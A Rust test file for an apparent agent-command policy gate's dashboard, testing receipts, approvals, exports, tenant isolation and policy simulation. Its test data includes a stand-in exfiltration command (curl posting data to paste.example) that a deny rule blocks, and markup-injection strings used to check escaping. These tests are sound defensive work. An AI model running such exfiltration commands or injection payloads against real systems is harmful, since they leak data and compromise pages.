//! The pages about receipts, without a browser.

use super::dashboard::{HOSTILE, RAW};
use super::*;
use crate::board::{Filter, catch_up};

/// Every page about receipts that needs no id.
const PAGES: [&str; 6] = [
    "/ui/overview",
    "/ui/activity",
    "/ui/activity?by=session",
    "/ui/findings",
    "/ui/drift",
    "/ui/simulation",
];

/// A rule that denies what sends something to a host.
const POLICY: &str = "[policy]\nid = \"own\"\nversion = \"1\"\n[[rule]]\nid = \"no-paste\"\neffect = \"deny\"\nreason = \"<b id=x>not there\"\n[rule.when]\nhost = \"paste.example\"\n";

async fn asks(place: &Place, key: &Minted, command: &[&str], session: &str) -> String {
    let asked = json!({ "command": command, "cwd": "/w/shop", "session": session });
    let told = place.as_key(key, "/v1/actions", Some(&asked)).await;
    told.body["id"].as_str().unwrap_or_else(|| panic!("{}", told.text)).to_owned()
}

#[tokio::test]
async fn pages_teach_where_there_is_nothing() {
    let place = Place::new().await;
    let cookie = place.cookie(&place.key(Role::Viewer, "north").await);
    for path in PAGES {
        let page = place.look(&cookie, path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}: {}", page.text);
        let teaches = page.text.contains("class=\"empty\"") || path == "/ui/simulation";
        assert!(teaches, "{path}: {}", page.text);
    }
    for path in ["/ui/activity?from=soon", "/ui/activity?after=7", "/ui/activity/export?form=xls"] {
        assert_eq!(place.look(&cookie, path).await.status, StatusCode::BAD_REQUEST, "{path}");
    }
    for path in ["/ui/decisions/server/12", "/ui/decisions/moon/0123456789abcdef0123456789abcdef"] {
        assert_eq!(place.look(&cookie, path).await.status, StatusCode::NOT_FOUND, "{path}");
    }
}

#[tokio::test]
async fn what_was_decided_is_listed_shown_and_exported() {
    let place = Place::new().await.under(POLICY).await;
    let agent = place.key(Role::Agent, "north").await;
    let cookie = place.cookie(&place.key(Role::Viewer, "north").await);
    let denied = asks(&place, &agent, &["curl", "-d", "x=1", "https://paste.example/"], "s1").await;
    for _ in 0..3 {
        asks(&place, &agent, &["git", "status"], "s2").await;
    }
    catch_up(&place.whole.board, &*place.store).await;
    let overview = place.look(&cookie, "/ui/overview").await.text;
    assert!(overview.contains("verdict=deny\">1</a>"), "{overview}");
    assert!(overview.contains("rule=no-paste"), "{overview}");
    let list = place.look(&cookie, "/ui/activity?verdict=deny").await.text;
    assert!(list.contains(&format!("/ui/decisions/server/{denied}")), "{list}");
    assert!(list.contains("1 of them") && !list.contains("git status"), "{list}");
    // What is not in the form is kept in it.
    let kept = place.look(&cookie, "/ui/activity?where=server&q=git").await.text;
    assert!(kept.contains("name=\"where\" value=\"server\"") && kept.contains("value=\"git\""));
    let sessions = place.look(&cookie, "/ui/activity?by=session").await.text;
    assert!(sessions.contains("2 sessions"), "{sessions}");
    let news = place.look(&cookie, "/ui/activity/part?verdict=allow&than=0.server.0").await.text;
    assert!(news.contains("3 new"), "{news}");
    let page = place.look(&cookie, &format!("/ui/decisions/server/{denied}")).await.text;
    for part in ["no-paste", "paste.example", "[[test]]", "true", "hash", "/ui/simulation"] {
        assert!(page.contains(part), "{part}: {page}");
    }
    let any = place.look(&cookie, &format!("/ui/decisions/any/{denied}")).await;
    assert_eq!(any.status, StatusCode::OK);
    let lines = place.look(&cookie, "/ui/activity/export?form=jsonl&verdict=deny").await;
    let line: Value = serde_json::from_str(&lines.text).unwrap();
    assert_eq!((line["id"].as_str(), line["seq"].as_u64()), (Some(&*denied), Some(1)));
    let table = place.look(&cookie, "/ui/activity/export?form=csv").await.text;
    assert_eq!(table.lines().count(), 5, "{table}");
    // Another tenant has none of it.
    let stranger = place.cookie(&place.key(Role::Admin, "south").await);
    for path in ["/ui/activity", "/ui/overview", "/ui/activity/export?form=csv"] {
        let page = place.look(&stranger, path).await.text;
        assert!(!page.contains("paste.example"), "{path}");
    }
    let path = format!("/ui/decisions/server/{denied}");
    assert_eq!(place.look(&stranger, &path).await.status, StatusCode::NOT_FOUND);
}

/// What became of a held call stands wherever the call does: in the list, on its page, in its session.
#[tokio::test]
async fn what_became_of_held_calls_is_told_everywhere() {
    let place = Place::new().await.under(ASKS_ABOUT_TERRAFORM).await;
    let (agent, ann) = place.agent_and_approver().await;
    let cookie = place.cookie(&place.key(Role::Viewer, "north").await);
    let mut ids = Vec::new();
    for folder in ["/yes", "/no", "/late", "/open"] {
        let asked = json!({ "command": ["terraform", "apply"], "cwd": folder, "session": "s1" });
        let told = place.as_key(&agent, "/v1/actions", Some(&asked)).await;
        ids.push(told.body["approval"]["id"].as_str().unwrap().to_owned());
    }
    let say = async |id: &str, decision: &str| {
        let said = json!({ "decision": decision, "note": "<b>so</b>" });
        let path = format!("/v1/approvals/{id}/decision");
        assert_eq!(place.as_key(&ann, &path, Some(&said)).await.status, StatusCode::OK);
    };
    catch_up(&place.whole.board, &*place.store).await;
    let waits = place.look(&cookie, "/ui/activity").await.text;
    assert_eq!(waits.matches(">waiting</span>").count(), 4, "{waits}");
    let (_, part) = waits.split_once("data-live=\"/ui/activity/held/part?").unwrap();
    let part = format!("/ui/activity/held/part?{}", part.split_once('"').unwrap().0);
    say(&ids[0], "approve").await;
    say(&ids[1], "deny").await;
    let asked = json!({ "command": ["terraform", "apply"], "cwd": "/yes", "session": "s1" });
    place.as_key(&agent, "/v1/actions", Some(&asked)).await;
    let behind = rusqlite::Connection::open(place.root().join("store.db")).unwrap();
    behind.execute("UPDATE approval SET until = 0 WHERE id = $1", [&ids[2]]).unwrap();
    assert_eq!(expire_overdue(&place.whole).await.unwrap(), 1);
    catch_up(&place.whole.board, &*place.store).await;
    let by = format!("by key {}", ann.stored.id);
    let words = ["approved and run", "denied", "expired", "waiting"];
    for path in ["/ui/activity", &part] {
        let page = place.look(&cookie, path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        for (id, word) in ids.iter().zip(words) {
            let (_, own) = page.text.split_once(&format!("became-{id}\"")).unwrap();
            let own = own.split("</td>").next().unwrap().split("became-").next().unwrap();
            assert!(own.contains(&format!(">{word}</span>")), "{path} {word}: {own}");
            let is_answered = matches!(word, "approved and run" | "denied");
            assert_eq!(own.contains(&by), is_answered, "{path} {word}: {own}");
        }
    }
    let sessions = place.look(&cookie, "/ui/activity?by=session").await.text;
    for (count, word) in [(1, "denied"), (1, "expired"), (1, "waiting"), (1, "approved and run")] {
        let (_, held) = sessions.split_once("of those held: ").unwrap();
        let held = held.split("</span>").next().unwrap();
        assert!(held.contains(&format!("{count} {word}")), "{held}");
    }
    for (id, word) in ids.iter().zip(words) {
        for end in ["", "/part"] {
            let page = place.look(&cookie, &format!("/ui/decisions/server/{id}{end}")).await.text;
            let (_, own) = page.split_once("id=\"became\"").unwrap();
            let own = own.split("</p>").next().unwrap();
            assert!(own.contains(&format!(">{word}</span>")), "{id}{end} {word}: {own}");
        }
    }
    for path in ["/ui/activity/held/part?ids=x", "/ui/activity/held/part?ids=server.7"] {
        assert_eq!(place.look(&cookie, path).await.status, StatusCode::BAD_REQUEST, "{path}");
    }
    let stranger = place.cookie(&place.key(Role::Admin, "south").await);
    assert!(!place.look(&stranger, &part).await.text.contains("became"), "another tenant's");
}

/// A rule leads to what it matched, shows its tests, and a decision becomes a test of the draft.
#[tokio::test]
async fn rules_have_hits_and_tests_and_a_decision_is_carried_to_the_draft() {
    let place = Place::new().await.under(ASKS_ABOUT_TERRAFORM).await;
    let agent = place.key(Role::Agent, "").await;
    let admin = place.cookie(&place.key(Role::Admin, "").await);
    for folder in ["/one", "/two"] {
        let asked = json!({ "command": ["terraform", "apply"], "cwd": folder });
        place.as_key(&agent, "/v1/actions", Some(&asked)).await;
    }
    let status = asks(&place, &agent, &["git", "status"], "s").await;
    catch_up(&place.whole.board, &*place.store).await;
    let rules = place.look(&admin, "/ui/policy").await.text;
    assert!(rules.contains("rule=ask-first\">2</a>"), "{rules}");
    assert!(rules.contains("2 tests hold") && rules.contains("all hold"), "{rules}");
    let tests = place.root().join("policy.test.toml");
    let wrong = "[[test]]\nname = \"<b id=x>\"\ncall = { run = \"terraform apply\" }\nexpect = \"allow\"\nrule = \"ask-first\"\n";
    std::fs::write(&tests, wrong).unwrap();
    let rules = place.look(&admin, "/ui/policy").await.text;
    assert!(rules.contains("1 of 3 tests fails") && !rules.contains("<b id"), "{rules}");
    std::fs::remove_file(&tests).unwrap();
    // The decision's page leads to both.
    let page = place.look(&admin, &format!("/ui/decisions/server/{status}")).await.text;
    for path in ["/ui/simulation?decision=", "/ui/policy/edit?test="] {
        assert!(page.contains(&format!("{path}server.{status}")), "{path}: {page}");
    }
    let editor = place.look(&admin, &format!("/ui/policy/edit?test=server.{status}")).await.text;
    assert!(editor.contains("run = &quot;git status&quot;") && editor.contains("not saved yet"));
    let token = place.token(&admin).await;
    let (_, seen) = editor.split_once("name=\"seen\" value=\"").unwrap();
    let seen = seen.split_once('"').unwrap().0;
    let send = async |path: &str, tests: &str| {
        let fields = [
            ("form_token", &*token),
            ("text", ASKS_ABOUT_TERRAFORM),
            ("seen", seen),
            ("tests", tests),
        ];
        place.sends(&admin, path, &fields).await
    };
    let lint = send("/ui/policy/lint", wrong).await.body;
    assert!(lint["tests"][0]["fault"].as_str().unwrap().contains("expected allow"), "{lint}");
    let right = wrong.replace("\"allow\"", "\"require_approval\"");
    assert_eq!(send("/ui/policy/lint", &right).await.body["tests"][0]["fault"], Value::Null);
    let told = send("/ui/policy/edit", "[[test]]\nname = 7\n").await;
    assert_eq!(told.status, StatusCode::BAD_REQUEST, "{}", told.text);
    let secret = right.replace("<b id=x>", &super::token());
    assert_eq!(send("/ui/policy/edit", &secret).await.status, StatusCode::BAD_REQUEST);
    let nobody = send("/ui/policy/edit", &right).await;
    assert_eq!(nobody.status, StatusCode::FORBIDDEN, "nobody here can ask the gate");
    assert!(!tests.exists());
    // What the draft says to it, beside what was said.
    let one = place.look(&admin, &format!("/ui/simulation?decision=server.{status}")).await.text;
    assert!(one.contains("id=\"one\"") && one.contains("the same"), "{one}");
    let stricter = ASKS_ABOUT_TERRAFORM
        .replace("match = [\"terraform apply\"]\nnot_match = [\"terraform plan\"]\n", "")
        .replace("command = [\"terraform\"]\nsubcommand = [\"apply\"]", "command = \"git\"");
    let name = format!("server.{status}");
    let fields =
        [("form_token", &*token), ("span", "7d"), ("draft", &*stricter), ("decision", &*name)];
    let ran = place.sends(&admin, "/ui/simulation", &fields).await.text;
    assert!(ran.contains("was allowed, would be held"), "{ran}");
    for path in ["/ui/simulation?decision=x", "/ui/policy/edit?test=server.7"] {
        assert_eq!(place.look(&admin, path).await.status, StatusCode::NOT_FOUND, "{path}");
    }
}

/// An export is made part by part, and all parts together are what fits.
#[tokio::test]
async fn an_export_is_made_in_parts() {
    use futures_util::StreamExt as _;
    let place = Place::new().await;
    let cookie = place.cookie(&place.key(Role::Viewer, "").await);
    place.whole.board.made_up(3000);
    for (form, head) in [("csv", 1), ("jsonl", 0)] {
        let path = format!("/ui/activity/export?form={form}");
        let request = anonymous("GET", &path).header("cookie", &cookie);
        let request = request.body(Body::empty()).unwrap();
        let answer = place.router.clone().oneshot(request).await.unwrap();
        let mut parts = answer.into_body().into_data_stream();
        let (mut count, mut largest, mut lines) = (0, 0, 0);
        while let Some(part) = parts.next().await {
            let part = part.unwrap();
            (count, largest) = (count + 1, part.len().max(largest));
            lines += part.iter().filter(|byte| **byte == b'\n').count();
        }
        assert_eq!(lines, 3000 + head, "{form}");
        assert!(count >= 6 && largest < 512 << 10, "{form}: {count} parts, the largest {largest}");
    }
}

#[tokio::test]
async fn a_draft_is_tried_and_changes_nothing() {
    let place = Place::new().await.under(POLICY).await;
    let agent = place.key(Role::Agent, "").await;
    let cookie = place.cookie(&place.key(Role::Viewer, "").await);
    for _ in 0..4 {
        asks(&place, &agent, &["git", "status"], "s").await;
    }
    catch_up(&place.whole.board, &*place.store).await;
    let token = place.token(&cookie).await;
    let post = async |draft: &str| {
        let fields = [("form_token", &*token), ("span", "7d"), ("draft", draft)];
        place.sends(&cookie, "/ui/simulation", &fields).await
    };
    let stricter = "[policy]\nid = \"own\"\nversion = \"2\"\n[[rule]]\nid = \"no-status\"\neffect = \"deny\"\nreason = \"<script>\"\n[rule.when]\ncommand = \"git\"\nsubcommand = \"status\"\n";
    let page = post(stricter).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    assert!(page.text.contains("4 decisions change"), "{}", page.text);
    assert!(page.text.contains("no-status") && !page.text.contains("<script>\""));
    let page = post("[policy]\nid = 7\n").await.text;
    assert!(page.contains("does not load"), "{page}");
    assert!(post(POLICY).await.text.contains("No decision changes"));
    let denied = [("form_token", &*token), ("span", "9y"), ("draft", "")];
    let answer = place.sends(&cookie, "/ui/simulation", &denied).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    let untold = place.sends(&cookie, "/ui/simulation", &[("span", "7d"), ("draft", "")]).await;
    assert_eq!(untold.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn hostile_texts_in_receipts_stand_in_pages_and_do_nothing() {
    let place = Place::new().await.under(POLICY).await;
    let agent = place.key(Role::Agent, "north").await;
    let cookie = place.cookie(&place.key(Role::Admin, "north").await);
    let mut paths: Vec<String> = PAGES.map(str::to_owned).into();
    for text in HOSTILE {
        let id = asks(&place, &agent, &["curl", text, "https://paste.example/"], text).await;
        paths.push(format!("/ui/decisions/server/{id}"));
        for field in ["q", "agent", "rule", "session", "command", "repository", "entity"] {
            let query = Filter::default().with(field, text).query();
            paths.push(format!("/ui/activity?{query}"));
            paths.push(format!("/ui/activity/part?{query}"));
            paths.push(format!("/ui/findings?{query}"));
        }
    }
    catch_up(&place.whole.board, &*place.store).await;
    for path in paths {
        let page = place.look(&cookie, &path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        for raw in RAW {
            assert!(!page.text.contains(raw), "{path}: {raw} stands in {}", page.text);
        }
    }
}

/// Many look at once while rows are added, and each is answered.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fifty_look_while_it_grows() {
    let place = Arc::new(Place::new().await);
    let agent = place.key(Role::Agent, "").await;
    let cookie = place.cookie(&place.key(Role::Viewer, "").await);
    let following = tokio::spawn(crate::board::follow_chain(
        Arc::clone(&place.whole.board),
        Arc::clone(&place.store) as Arc<dyn crate::store::Store>,
    ));
    let mut looking = tokio::task::JoinSet::new();
    for number in 0..50 {
        let (place, cookie) = (Arc::clone(&place), cookie.clone());
        looking.spawn(async move {
            let paths = ["/ui/overview", "/ui/activity", "/ui/activity/part"];
            for path in paths.iter().cycle().skip(number % 3).take(4) {
                assert_eq!(place.look(&cookie, path).await.status, StatusCode::OK);
            }
        });
    }
    for _ in 0..10 {
        asks(&place, &agent, &["git", "status"], "s").await;
    }
    while let Some(looked) = looking.join_next().await {
        looked.unwrap();
    }
    let mut grown = place.whole.board.grown();
    while place.whole.board.ask("", crate::board::Shelf::len) < 10 {
        grown.changed().await.unwrap();
    }
    following.abort();
}

/// How long pages over many receipts take: `docs/BENCHMARKS.md` has the figures, and the command.
#[tokio::test]
#[ignore = "a measurement: run it with `--run-ignored only --no-capture`"]
async fn pages_over_a_hundred_thousand_receipts_measured() {
    let place = Place::new().await;
    let cookie = place.cookie(&place.key(Role::Viewer, "").await);
    place.whole.board.made_up(100_000);
    for path in [
        "/ui/overview?from=30d",
        "/ui/overview?from=7d",
        "/ui/activity",
        "/ui/activity?verdict=deny&q=push",
        "/ui/activity?q=nothing+has+this",
        "/ui/activity?by=session",
        "/ui/findings",
        "/ui/drift",
        "/ui/activity/export?form=csv",
    ] {
        let mut times = Vec::new();
        for _ in 0..11 {
            let start = std::time::Instant::now();
            assert_eq!(place.look(&cookie, path).await.status, StatusCode::OK, "{path}");
            times.push(start.elapsed());
        }
        times.sort();
        println!(
            "{path}: {} ms in the middle, {} ms at most",
            times[5].as_millis(),
            times[10].as_millis()
        );
    }
}
